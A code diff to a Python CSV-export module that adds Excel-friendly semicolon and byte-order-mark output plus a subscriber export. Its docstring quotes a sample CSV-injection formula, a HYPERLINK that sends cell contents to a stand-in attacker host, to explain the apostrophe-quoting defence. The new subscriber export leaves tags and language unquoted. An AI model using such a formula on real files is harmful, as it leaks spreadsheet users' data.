@@ -5,6 +5,10 @@ spreadsheets skip before reading a formula) is run as a formula when the file is
 title such as ``=HYPERLINK("https://evil.example/?"&A1, "Cliquez")`` would leak or mislead
 (OWASP "CSV injection"). :func:`safe_cell` quotes such cells with a leading apostrophe, which
 spreadsheets show as text; every CSV veille writes goes through it.
+
+Every CSV file is written by :func:`spreadsheet_csv`: ``;`` between cells and a byte-order mark
+before UTF-8, what French Excel needs to open it in columns with its accents (a comma-separated
+file without the mark opens as one garbled column).
 """
 
 from __future__ import annotations
@@ -12,13 +16,15 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Sequence
+from collections.abc import Iterable, Sequence
 from datetime import UTC, datetime
 from typing import Any
 
-from veille.models import ExportRow
+from veille.models import ExportRow, Subscriber
 
 FORMULA_STARTS = frozenset("=+-@\t\r")
+BOM = "\ufeff"
+DELIMITER = ";"
 
 
 def safe_cell(value: str) -> str:
@@ -27,15 +33,35 @@ def safe_cell(value: str) -> str:
     return "'" + value if first in FORMULA_STARTS else value
 
 
-def articles_csv(rows: Sequence[ExportRow], columns: Sequence[str]) -> str:
-    """Rows as CSV (RFC 4180, CRLF): lists joined with ``;``, dates ISO 8601 UTC, every text
-    cell through :func:`safe_cell`."""
+def spreadsheet_csv(rows: Iterable[Sequence[str]]) -> str:
+    """Rows (already safe cells) as a CSV file French spreadsheets open as it is: a byte-order
+    mark, ``;`` between cells, CRLF line ends, quotes where RFC 4180 wants them."""
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow(columns)
-    for row in rows:
-        writer.writerow([_csv_value(getattr(row, c)) for c in columns])
+    buffer.write(BOM)
+    writer = csv.writer(buffer, delimiter=DELIMITER, lineterminator="\r\n")
+    writer.writerows(rows)
     return buffer.getvalue()
+
+
+def articles_csv(rows: Sequence[ExportRow], columns: Sequence[str]) -> str:
+    """Rows as a spreadsheet CSV (:func:`spreadsheet_csv`): lists joined with ``, ``, dates
+    ISO 8601 UTC, every text cell through :func:`safe_cell`."""
+    body = ([_csv_value(getattr(row, c)) for c in columns] for row in rows)
+    return spreadsheet_csv([list(columns), *body])
+
+
+SUBSCRIBER_COLUMNS = ("email", "name", "tags", "lang")  # what `veille subscribers import` reads
+
+
+def subscribers_csv(rows: Sequence[Subscriber]) -> str:
+    """The subscribers still subscribed, as a spreadsheet CSV that ``veille subscribers
+    import`` (and the app's import) reads back: email, name, themes (``, ``), language."""
+    body = (
+        [safe_cell(r.email), safe_cell(r.name or ""), ", ".join(r.tags), r.lang or ""]
+        for r in rows
+        if r.active
+    )
+    return spreadsheet_csv([list(SUBSCRIBER_COLUMNS), *body])
 
 
 def articles_json(rows: Sequence[ExportRow], columns: Sequence[str]) -> str:
@@ -50,7 +76,7 @@ def _csv_value(value: Any) -> str:
     if isinstance(value, bool):
         return "true" if value else "false"
     if isinstance(value, list | tuple):
-        return safe_cell(";".join(str(v) for v in value))
+        return safe_cell(", ".join(str(v) for v in value))
     if isinstance(value, datetime):
         return _iso(value)
     if isinstance(value, float):
